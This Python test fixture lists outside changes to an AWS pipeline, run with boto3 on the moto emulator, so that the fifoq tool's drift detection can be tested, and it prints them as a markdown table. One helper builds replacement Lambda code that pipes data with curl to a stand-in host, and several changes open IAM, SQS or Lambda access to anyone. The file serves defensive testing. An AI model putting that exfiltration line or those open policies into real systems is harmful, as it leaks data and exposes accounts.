"""Changes outside of fifoq, each with the row and the property that reports it.

The table is data: test_mutations.py makes each change with boto3, and docs/reference/drift-table.md
is its printed form (python tests/e2e/mutations.py prints it).
"""

import io
import json
import zipfile
from dataclasses import dataclass

REGION, ACCOUNT = "eu-west-1", "123456789012"
TABLE, NIGHT, TOKEN_PATH = "orders-table", "orders-night", "/orders/crm-token"
ANYBODY = {
    "Version": "2012-10-17",
    "Statement": [{"Effect": "Allow", "Principal": "*", "Action": "sqs:*", "Resource": "*"}],
}
EVERYTHING = {
    "Version": "2012-10-17",
    "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}],
}


def arn(service, resource):
    return f"arn:aws:{service}:{REGION}:{ACCOUNT}:{resource}"


def function_arn(name):
    return arn("lambda", f"function:{name}")


@dataclass(frozen=True)
class Mutation:
    """property is None if the row itself is missing or extra.

    way is how it is corrected: "up", "up --adopt", or the solution that a refusal names; then
    way_out does what it says, and `up` follows. also: other rows that report it too. terraform is
    only set if it was measured.
    """

    what: str
    row: str
    property: str | None
    change: object
    terraform: str = ""
    way: str = "up"
    way_out: object = None
    also: bool = False

    @property
    def name(self):
        return f"{self.row}: {self.what}"


# Helpers of the changes


def url(aws, queue):
    return aws.sqs.get_queue_url(QueueName=queue)["QueueUrl"]


def queue(name, **attributes):
    return lambda aws: aws.sqs.set_queue_attributes(QueueUrl=url(aws, name), Attributes=attributes)


def queue_tags(name, *off, **tags):
    def change(aws):
        if off:
            aws.sqs.untag_queue(QueueUrl=url(aws, name), TagKeys=list(off))
        if tags:
            aws.sqs.tag_queue(QueueUrl=url(aws, name), Tags=tags)

    return change


def drop_queue(name):
    return lambda aws: aws.sqs.delete_queue(QueueUrl=url(aws, name))


def role(call, name="orders-drain", **params):
    return lambda aws: getattr(aws.iam, call)(RoleName=name, **params)


def inline(name, document, policy="fifoq"):
    given = {"PolicyName": policy, "PolicyDocument": json.dumps(document)}
    return role("put_role_policy", name, **given)


def make_policy(aws):
    """The ARN of a managed policy, created if there is none."""
    policy = f"arn:aws:iam::{ACCOUNT}:policy/theirs"
    try:
        aws.iam.get_policy(PolicyArn=policy)
    except aws.iam.exceptions.NoSuchEntityException:
        aws.iam.create_policy(PolicyName="theirs", PolicyDocument=json.dumps(EVERYTHING))
    return policy


def attach(aws):
    aws.iam.attach_role_policy(RoleName="orders-drain", PolicyArn=make_policy(aws))


def bound(aws):
    aws.iam.put_role_permissions_boundary(
        RoleName="orders-drain", PermissionsBoundary=make_policy(aws)
    )


def drop_role(aws):
    aws.iam.delete_role_policy(RoleName="orders-ingest", PolicyName="fifoq")
    aws.iam.delete_role(RoleName="orders-ingest")


def function(call, name="orders-drain", **params):
    return lambda aws: getattr(aws.lambda_, call)(FunctionName=name, **params)


def configured(**params):
    return function("update_function_configuration", **params)


def other_zip():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("bootstrap", "#!/bin/sh\ncurl -d @- https://elsewhere.example\n")
    return out.getvalue()


def function_tags(aws):
    aws.lambda_.tag_resource(Resource=function_arn("orders-drain"), Tags={"team": "sales"})


def allowed(name, statement, principal, **params):
    return function(
        "add_permission", name, StatementId=statement, Principal=principal,
        Action="lambda:InvokeFunction", **params,
    )  # fmt: skip


def permission_moved(aws):
    function("remove_permission", StatementId="fifoq-schedules")(aws)
    elsewhere = arn("events", "rule/elsewhere")
    allowed("orders-drain", "fifoq-schedules", "events.amazonaws.com", SourceArn=elsewhere)(aws)


def invoke(call="update_function_event_invoke_config", name="orders-drain", **params):
    return function(call, name, **params)


def our_mapping(aws):
    (found,) = [
        each
        for each in aws.lambda_.list_event_source_mappings()["EventSourceMappings"]
        if each["FunctionArn"] == function_arn("orders-ingest")
    ]
    return found


def mapping(**params):
    def change(aws):
        aws.lambda_.update_event_source_mapping(UUID=our_mapping(aws)["UUID"], **params)

    return change


def drop_mapping(aws):
    aws.lambda_.delete_event_source_mapping(UUID=our_mapping(aws)["UUID"])


def mapping_tags(aws):
    kind = f"event-source-mapping:{our_mapping(aws)['UUID']}"
    aws.lambda_.tag_resource(Resource=arn("lambda", kind), Tags={"team": "sales"})


def stream(aws, name=TABLE):
    return aws.dynamodb.describe_table(TableName=name)["Table"]["LatestStreamArn"]


def mapped(name, source, **params):
    """Another mapping; source is an ARN or a function that returns one."""

    def change(aws):
        given = source(aws) if callable(source) else source
        aws.lambda_.create_event_source_mapping(
            FunctionName=name, EventSourceArn=given, BatchSize=1, **params
        )

    return change


def other_function(aws):
    aws.lambda_.create_function(
        FunctionName="theirs", Runtime="provided.al2023", Handler="x",
        Role=f"arn:aws:iam::{ACCOUNT}:role/orders-drain", Code={"ZipFile": other_zip()},
    )  # fmt: skip


def eaten(queue_name):
    """Another function consumes the queue."""

    def change(aws):
        known = [each["FunctionName"] for each in aws.lambda_.list_functions()["Functions"]]
        if "theirs" not in known:
            other_function(aws)
        mapped("theirs", arn("sqs", queue_name))(aws)

    return change


queue_eaten = eaten("orders.fifo")


def other_stream(aws):
    """The stream of a table outside of the pipeline."""
    if "theirs" not in aws.dynamodb.list_tables()["TableNames"]:
        aws.dynamodb.create_table(
            TableName="theirs", BillingMode="PAY_PER_REQUEST",
            KeySchema=[{"AttributeName": "id", "KeyType": "HASH"}],
            AttributeDefinitions=[{"AttributeName": "id", "AttributeType": "S"}],
            StreamSpecification={"StreamEnabled": True, "StreamViewType": "NEW_IMAGE"},
        )  # fmt: skip
    return stream(aws, "theirs")


def other_queue(aws):
    return aws.sqs.get_queue_attributes(
        QueueUrl=aws.sqs.create_queue(QueueName="theirs")["QueueUrl"], AttributeNames=["QueueArn"]
    )["Attributes"]["QueueArn"]


def alias(aws):
    version = aws.lambda_.publish_version(FunctionName="orders-drain")["Version"]
    aws.lambda_.create_alias(FunctionName="orders-drain", Name="live", FunctionVersion=version)


def rule(**params):
    def change(aws):
        known = aws.events.describe_rule(Name=NIGHT)
        names = ("ScheduleExpression", "State", "Description")
        aws.events.put_rule(Name=NIGHT, **{**{k: known[k] for k in names}, **params})

    return change


def target(**params):
    """fifoq's target with other members."""

    def change(aws):
        (known,) = aws.events.list_targets_by_rule(Rule=NIGHT)["Targets"]
        aws.events.put_targets(Rule=NIGHT, Targets=[{**known, **params}])

    return change


def second_target(aws):
    extra = {"Id": "theirs", "Arn": arn("sqs", "theirs")}
    aws.events.put_targets(Rule=NIGHT, Targets=[extra])


def drop_targets(aws):
    (known,) = aws.events.list_targets_by_rule(Rule=NIGHT)["Targets"]
    aws.events.remove_targets(Rule=NIGHT, Ids=[known["Id"]])


def drop_rule(aws):
    drop_targets(aws)
    aws.events.delete_rule(Name=NIGHT)


def rule_tags(aws):
    aws.events.tag_resource(
        ResourceARN=arn("events", f"rule/{NIGHT}"), Tags=[{"Key": "team", "Value": "sales"}]
    )


def extra_rule(aws):
    aws.events.put_rule(
        Name="orders-rogue", ScheduleExpression="rate(1 minute)",
        Tags=[{"Key": "fifoq:pipeline", "Value": "orders"}],
    )  # fmt: skip


def group(call, name="orders-drain", **params):
    return lambda aws: getattr(aws.logs, call)(logGroupName=f"/aws/lambda/{name}", **params)


def group_tags(aws):
    aws.logs.tag_resource(
        resourceArn=arn("logs", "log-group:/aws/lambda/orders-drain"), tags={"team": "sales"}
    )


def rotated(aws):
    given = {"Value": "rotated outside", "Type": "SecureString", "Overwrite": True}
    aws.ssm.put_parameter(Name=TOKEN_PATH, **given)


def rewritten(**params):
    """The same value, written again with another attribute changed."""

    def change(aws):
        known = aws.ssm.get_parameter(Name=TOKEN_PATH, WithDecryption=True)["Parameter"]
        given = {"Value": known["Value"], "Type": "SecureString", **params}
        aws.ssm.put_parameter(Name=TOKEN_PATH, Overwrite=True, **given)

    return change


def parameter_tags(**tags):
    listed = [{"Key": key, "Value": value} for key, value in tags.items()]
    return lambda aws: aws.ssm.add_tags_to_resource(
        ResourceType="Parameter", ResourceId=TOKEN_PATH, Tags=listed
    )


def drop_parameter(aws):
    aws.ssm.delete_parameter(Name=TOKEN_PATH)


def extra_parameter(aws):
    aws.ssm.put_parameter(
        Name="/orders/old-token", Value="x", Type="SecureString",
        Tags=[{"Key": "fifoq:pipeline", "Value": "orders"}],
    )  # fmt: skip


def table(**params):
    return lambda aws: aws.dynamodb.update_table(TableName=TABLE, **params)


def table_tags(aws):
    aws.dynamodb.tag_resource(
        ResourceArn=arn("dynamodb", f"table/{TABLE}"), Tags=[{"Key": "team", "Value": "sales"}]
    )


def other_view(aws, name=TABLE):
    """A stream's view cannot be changed; to change it, another stream is created."""
    aws.dynamodb.update_table(TableName=name, StreamSpecification={"StreamEnabled": False})
    view = {"StreamEnabled": True, "StreamViewType": "KEYS_ONLY"}
    aws.dynamodb.update_table(TableName=name, StreamSpecification=view)


def stream_off(aws):
    aws.dynamodb.update_table(TableName=TABLE, StreamSpecification={"StreamEnabled": False})


Q, D, F = "orders.fifo", "orders-dead.fifo", "orders-ingest-failures"
T = "orders-turn.fifo"

MUTATIONS = [
    # The queue
    Mutation("visibility timeout", "queue", "VisibilityTimeout", queue(Q, VisibilityTimeout="30"), "yes"),
    Mutation("retention", "queue", "MessageRetentionPeriod", queue(Q, MessageRetentionPeriod="60")),
    Mutation("delay", "queue", "DelaySeconds", queue(Q, DelaySeconds="5")),
    Mutation("largest message", "queue", "MaximumMessageSize", queue(Q, MaximumMessageSize="1024")),
    Mutation("receive wait time", "queue", "ReceiveMessageWaitTimeSeconds", queue(Q, ReceiveMessageWaitTimeSeconds="5")),
    Mutation("content-based deduplication", "queue", "ContentBasedDeduplication", queue(Q, ContentBasedDeduplication="true"), "yes"),
    Mutation("throughput limit", "queue", "FifoThroughputLimit", queue(Q, FifoThroughputLimit="perMessageGroupId")),
    Mutation("made again with another deduplication scope", "queue", "DeduplicationScope", queue(Q, DeduplicationScope="messageGroup"), way="delete the queue once it is empty, then `up`", way_out=drop_queue(Q)),
    Mutation("encryption off", "queue", "SqsManagedSseEnabled", queue(Q, SqsManagedSseEnabled="false")),
    Mutation("a KMS key that the functions may not use", "queue", "KmsMasterKeyId", queue(Q, KmsMasterKeyId="alias/theirs")),
    Mutation("a redrive policy, which breaks the order", "queue", "RedrivePolicy", queue(Q, RedrivePolicy=json.dumps({"deadLetterTargetArn": arn("sqs", D), "maxReceiveCount": 3}))),
    Mutation("queue policy opened to `*`", "queue", "Policy", queue(Q, Policy=json.dumps(ANYBODY)), "no"),
    Mutation("tag changed", "queue", "Tags", queue_tags(Q, team="sales")),
    Mutation("tag removed", "queue", "Tags", queue_tags(Q, "team")),
    Mutation("tag added", "queue", "Tags", queue_tags(Q, mine="yes")),
    Mutation("the owner tag removed", "queue", "Tags", queue_tags(Q, "fifoq:pipeline"), way="up --adopt"),
    Mutation("deleted", "queue", None, drop_queue(Q)),
    Mutation("another function consumes it", "queue", "EventSourceMappings", queue_eaten, "no"),
    # The other queues
    Mutation("another function consumes them", "dead-letters", "EventSourceMappings", eaten(D), "no"),
    Mutation("another function consumes them", "ingest-failures", "EventSourceMappings", eaten(F), "no"),
    Mutation("retention", "dead-letters", "MessageRetentionPeriod", queue(D, MessageRetentionPeriod="60")),
    Mutation("policy opened to `*`", "dead-letters", "Policy", queue(D, Policy=json.dumps(ANYBODY))),
    Mutation("tag changed", "dead-letters", "Tags", queue_tags(D, team="sales")),
    Mutation("deleted", "dead-letters", None, drop_queue(D)),
    Mutation("visibility timeout", "ingest-failures", "VisibilityTimeout", queue(F, VisibilityTimeout="1")),
    Mutation("retention", "ingest-failures", "MessageRetentionPeriod", queue(F, MessageRetentionPeriod="60")),
    Mutation("deleted", "ingest-failures", None, drop_queue(F)),
    Mutation("retention", "turn", "MessageRetentionPeriod", queue(T, MessageRetentionPeriod="60")),
    Mutation("another function consumes them", "turn", "EventSourceMappings", eaten(T), "no"),
    Mutation("deleted", "turn", None, drop_queue(T)),
    # Roles
    Mutation("trust policy opened", "drain-role", "AssumeRolePolicyDocument", role("update_assume_role_policy", PolicyDocument=json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"}]}))),
    Mutation("the pipeline's policy allows everything", "drain-role", "PolicyDocument", inline("orders-drain", EVERYTHING)),
    Mutation("the pipeline's policy deleted", "drain-role", "PolicyDocument", role("delete_role_policy", PolicyName="fifoq")),
    Mutation("another inline policy, `Action: *`", "drain-role", "OtherInlinePolicies", inline("orders-drain", EVERYTHING, "more"), "no"),
    Mutation("a managed policy attached", "drain-role", "AttachedPolicies", attach, "no"),
    Mutation("description", "drain-role", "Description", role("update_role", Description="mine")),
    Mutation("session duration", "drain-role", "MaxSessionDuration", role("update_role", Description="fifoq orders: drain", MaxSessionDuration=7200)),
    Mutation("tag changed", "drain-role", "Tags", role("tag_role", Tags=[{"Key": "team", "Value": "sales"}])),
    Mutation("another inline policy", "ingest-role", "OtherInlinePolicies", inline("orders-ingest", EVERYTHING, "more")),
    Mutation("deleted", "ingest-role", None, drop_role),
    # Functions
    Mutation("code replaced", "drain", "CodeSha256", function("update_function_code", ZipFile=other_zip()), "no"),
    Mutation("memory", "drain", "MemorySize", configured(MemorySize=1024)),
    Mutation("timeout", "drain", "Timeout", configured(Timeout=3)),
    Mutation("handler", "drain", "Handler", configured(Handler="ingest")),
    Mutation("runtime", "drain", "Runtime", configured(Runtime="python3.12")),
    Mutation("environment variable added", "drain", "Environment", configured(Environment={"Variables": {"A": "b"}}), "yes"),
    Mutation("a layer", "drain", "Layers", configured(Layers=[f"arn:aws:lambda:{REGION}:999999999999:layer:theirs:1"])),
    Mutation("role", "drain", "Role", configured(Role=f"arn:aws:iam::{ACCOUNT}:role/orders-ingest")),
    Mutation("log format", "drain", "LoggingConfig", configured(LoggingConfig={"LogFormat": "JSON"})),
    Mutation("tracing", "drain", "TracingConfig", configured(TracingConfig={"Mode": "Active"})),
    Mutation("description", "drain", "Description", configured(Description="mine")),
    Mutation("ephemeral storage", "drain", "EphemeralStorage", configured(EphemeralStorage={"Size": 1024})),
    Mutation("put into a VPC", "drain", "VpcConfig", configured(VpcConfig={"SubnetIds": ["subnet-1"], "SecurityGroupIds": ["sg-1"]})),
    Mutation("a dead-letter queue", "drain", "DeadLetterConfig", configured(DeadLetterConfig={"TargetArn": arn("sqs", "theirs")})),
    Mutation("a KMS key", "drain", "KMSKeyArn", configured(KMSKeyArn=arn("kms", "key/theirs"))),
    Mutation("reserved concurrency 0: nothing runs", "drain", "ReservedConcurrentExecutions", function("put_function_concurrency", ReservedConcurrentExecutions=0), "no"),
    Mutation("tag changed", "drain", "Tags", function_tags),
    Mutation("deleted", "drain", None, function("delete_function")),
    Mutation("a public URL", "drain", "FunctionUrlConfig", function("create_function_url_config", AuthType="NONE")),
    Mutation("an alias", "drain", "Aliases", alias),
    Mutation("a mapping of another queue to it", "drain", "EventSourceMappings", mapped("orders-drain", other_queue)),
    Mutation("code replaced", "ingest", "CodeSha256", function("update_function_code", "orders-ingest", ZipFile=other_zip())),
    Mutation("timeout", "ingest", "Timeout", function("update_function_configuration", "orders-ingest", Timeout=3)),
    Mutation("a mapping of the pipeline's queue to it", "ingest", "EventSourceMappings", mapped("orders-ingest", arn("sqs", Q))),
    # Permissions to call the functions
    Mutation("anybody may call it", "drain-permission/theirs", None, allowed("orders-drain", "theirs", "*"), "no"),
    Mutation("anybody may call it", "ingest-permission/theirs", None, allowed("orders-ingest", "theirs", "*")),
    Mutation("permission removed", "drain-permission", None, function("remove_permission", StatementId="fifoq-schedules")),
    Mutation("permission for another rule", "drain-permission", "Policy", permission_moved),
    # Asynchronous calls
    Mutation("retries", "drain-async", "MaximumRetryAttempts", invoke(MaximumRetryAttempts=2)),
    Mutation("age", "drain-async", "MaximumEventAgeInSeconds", invoke(MaximumEventAgeInSeconds=600)),
    Mutation("a destination", "drain-async", "OnFailure", invoke(DestinationConfig={"OnFailure": {"Destination": arn("sqs", F)}})),
    Mutation("deleted", "drain-async", None, invoke("delete_function_event_invoke_config")),
    Mutation("added", "ingest-async", None, invoke("put_function_event_invoke_config", "orders-ingest", MaximumRetryAttempts=1)),
    # The mapping
    Mutation("disabled", "mapping", "Enabled", mapping(Enabled=False), "yes"),
    Mutation("batch size", "mapping", "BatchSize", mapping(BatchSize=7)),
    Mutation("batching window", "mapping", "MaximumBatchingWindowInSeconds", mapping(MaximumBatchingWindowInSeconds=9)),
    Mutation("tumbling window", "mapping", "TumblingWindowInSeconds", mapping(TumblingWindowInSeconds=9)),
    Mutation("filter", "mapping", "FilterCriteria", mapping(FilterCriteria={"Filters": [{"Pattern": "{}"}]})),
    Mutation("parallel batches", "mapping", "ParallelizationFactor", mapping(ParallelizationFactor=10)),
    Mutation("bisecting off", "mapping", "BisectBatchOnFunctionError", mapping(BisectBatchOnFunctionError=False)),
    Mutation("retries limited: items are lost", "mapping", "MaximumRetryAttempts", mapping(MaximumRetryAttempts=1)),
    Mutation("age limited: items are lost", "mapping", "MaximumRecordAgeInSeconds", mapping(MaximumRecordAgeInSeconds=60)),
    Mutation("another place for failures", "mapping", "OnFailure", mapping(DestinationConfig={"OnFailure": {"Destination": arn("sqs", "theirs")}})),
    Mutation("partial answers off: items are lost", "mapping", "FunctionResponseTypes", mapping(FunctionResponseTypes=[])),
    Mutation("tag changed", "mapping", "Tags", mapping_tags),
    Mutation("a second one of the same stream", "mapping", "OtherMappings", mapped("orders-ingest", stream, StartingPosition="LATEST")),
    Mutation("one of another table's stream", "mapping", "OtherMappings", mapped("orders-ingest", other_stream, StartingPosition="LATEST")),
    Mutation("deleted", "mapping", None, drop_mapping, "yes"),
    # Schedules
    Mutation("expression", "schedule/night", "ScheduleExpression", rule(ScheduleExpression="rate(9 hours)")),
    Mutation("disabled", "schedule/night", "State", lambda aws: aws.events.disable_rule(Name=NIGHT), "only when `state` is written down"),
    Mutation("description", "schedule/night", "Description", rule(Description="mine")),
    Mutation("a role", "schedule/night", "RoleArn", rule(RoleArn=f"arn:aws:iam::{ACCOUNT}:role/theirs")),
    Mutation("an event pattern beside it", "schedule/night", "EventPattern", rule(EventPattern=json.dumps({"source": ["theirs"]}))),
    Mutation("input of the target", "schedule/night", "Target", target(Input=json.dumps({"max_messages": 1}))),
    Mutation("target moved to another function", "schedule/night", "Target", target(Arn=function_arn("theirs"))),
    Mutation("target removed", "schedule/night", "Target", drop_targets),
    Mutation("a second target", "schedule/night", "OtherTargets", second_target, "no"),
    Mutation("tag changed", "schedule/night", "Tags", rule_tags),
    Mutation("deleted", "schedule/night", None, drop_rule),
    Mutation("one more, with the pipeline's tag", "schedule/rogue", None, extra_rule),
    # Log groups
    Mutation("a KMS key", "drain-logs", "kmsKeyId", lambda aws: aws.logs.associate_kms_key(logGroupName="/aws/lambda/orders-drain", kmsKeyId=arn("kms", "key/theirs"))),
    Mutation("retention", "drain-logs", "retentionInDays", group("put_retention_policy", retentionInDays=1), "yes"),
    Mutation("kept permanently", "drain-logs", "retentionInDays", group("delete_retention_policy")),
    Mutation("a subscription sends the lines elsewhere", "drain-logs", "SubscriptionFilters", group("put_subscription_filter", filterName="theirs", filterPattern="", destinationArn=function_arn("orders-ingest"))),
    Mutation("tag changed", "drain-logs", "Tags", group_tags),
    Mutation("deleted", "ingest-logs", None, group("delete_log_group", "orders-ingest")),
    # Parameters
    Mutation("value rotated", "parameter/crm-token", "Version", rotated, "with `value`; not with `value_wo`"),
    Mutation("description", "parameter/crm-token", "Description", rewritten(Description="mine"), also=True),
    Mutation("another KMS key", "parameter/crm-token", "KeyId", rewritten(KeyId="alias/theirs"), also=True),
    Mutation("in plain text", "parameter/crm-token", "Type", rewritten(Type="String"), way="delete the parameter, then `up`", way_out=drop_parameter, also=True),
    Mutation("a tier that cannot be left again", "parameter/crm-token", "Tier", rewritten(Tier="Advanced"), way="delete the parameter, then `up`", way_out=drop_parameter, also=True),
    Mutation("tag changed", "parameter/crm-token", "Tags", parameter_tags(team="sales")),
    Mutation("deleted", "parameter/crm-token", None, drop_parameter),
    Mutation("one more, with the pipeline's tag", "parameter/old-token", None, extra_parameter),
    # The table, if fifoq created it
    Mutation("billing", "table", "BillingMode", table(BillingMode="PROVISIONED", ProvisionedThroughput={"ReadCapacityUnits": 1, "WriteCapacityUnits": 1})),
    Mutation("tag changed", "table", "Tags", table_tags),
    Mutation("stream switched off", "table", "StreamEnabled", stream_off, way="up --switch-stream"),
    Mutation("stream with another view", "table", "StreamViewType", other_view, way="up --switch-stream", also=True),
]  # fmt: skip

# What is left alone, and why: a name, a change, a reason.
NOT_OURS = [
    ("the table's deletion protection", table(DeletionProtectionEnabled=True), "it protects, and `down --delete-table` says so before it deletes anything (Terraform sees it)"),
    ("a permissions boundary that `functions.permissions_boundary` does not name", bound, "it only restricts permissions, and an organisation may require it"),
    ("a metric filter on a log group", group("put_metric_filter", filterName="theirs", filterPattern="ERROR", metricTransformations=[{"metricName": "m", "metricNamespace": "n", "metricValue": "1"}]), "it counts lines and changes nothing"),
    ("a published version", function("publish_version"), "nothing calls it; an alias, a URL, a permission or a mapping that would call it is detected"),
    ("a rule with the pipeline's prefix, but without its tag", lambda aws: aws.events.put_rule(Name="orders-theirs", ScheduleExpression="rate(9 hours)"), "another pipeline's names may begin with the same prefix; the rule could at most start drain once more than the schedules do"),
    ("a parameter below the pipeline's path, but without its tag", lambda aws: aws.ssm.put_parameter(Name="/orders/theirs", Value="x", Type="String"), "none of the pipeline's functions reads it"),
]  # fmt: skip


HEAD = """# Changes that drift detects

`tests/e2e/test_mutations.py` makes each change below outside of fifoq, one at a time, with boto3 on an emulated AWS
(moto). `fifoq drift` must name the row and the property, `fifoq up` must correct it, and then boto3 must read the
pipeline as before. `fifoq drift` must find nothing on a fresh pipeline, after an `up` that changes nothing, and with
every default that AWS fills in.

The last column is the result of Terraform 1.11.4 with its AWS provider 5.100.0 for the same change: `plan
-detailed-exitcode` on the same pipeline in 16 resources on moto 5.2.1. An empty cell is a change that was not tested.
Terraform does not see what a module does not declare: a queue policy, for example, can be declared.

`fifoq up --keep-extras` leaves what others added (policies, targets, mappings, statements, aliases, a URL,
subscriptions, resources of the pipeline that were removed from the configuration): the plan names it, and it stays.
"""


def markdown():
    lines = [
        *HEAD.splitlines(),
        "",
        "| row | change | property that reports it | corrected by | detected by Terraform |",
        "|---|---|---|---|---|",
    ]
    for m in MUTATIONS:
        tells = f"`{m.property}`" if m.property else "the row itself"
        way = f"`{m.way}`" if m.way.startswith("up") else m.way
        lines.append(f"| {m.row} | {m.what} | {tells} | {way} | {m.terraform} |")
    lines += ["", "| left alone | reason |", "|---|---|"]
    lines += [f"| {name} | {why} |" for name, _, why in NOT_OURS]
    return "\n".join(lines) + "\n"


if __name__ == "__main__":
    print(markdown(), end="")
